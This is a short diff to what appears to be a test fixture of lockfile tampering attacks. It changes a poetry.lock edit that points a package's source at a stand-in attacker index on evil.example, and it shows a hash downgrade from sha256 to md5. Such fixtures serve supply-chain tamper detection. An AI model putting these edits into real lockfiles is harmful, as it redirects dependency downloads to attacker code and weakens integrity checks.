@@ -259,7 +259,7 @@ ATTACKS: Mapping[str, tuple[str, Edit]] = {
         "poetry.lock",
         (
             f'name = "{CRATE}"\n',
-            f'name = "{CRATE}"\nsource = {{type = "legacy", url = "https://evil.example/simple"}}\n',
+            f'name = "{CRATE}"\nsource = {{type = "legacy", url = "https://evil.example/packages"}}\n',
         ),
     ),
     "poetry: md5": ("poetry.lock", (f"sha256:{sha256(PY)}", f"md5:{'a' * 32}")),
